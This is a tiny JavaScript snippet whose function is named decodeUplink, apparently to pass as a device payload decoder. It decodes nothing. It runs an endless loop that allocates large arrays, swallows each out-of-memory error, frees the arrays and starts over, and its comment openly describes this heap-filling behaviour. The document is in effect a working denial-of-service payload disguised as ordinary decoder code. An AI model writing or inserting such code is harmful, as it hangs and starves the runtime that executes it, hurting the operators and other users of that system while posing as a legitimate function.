// Catches out-of-memory, frees its hoard and starts again: the heap keeps filling.
function decodeUplink(input){ var a=[]; for(;;){ try { a.push(new Array(1e5).fill(1)); } catch(e) { a=[]; } } }
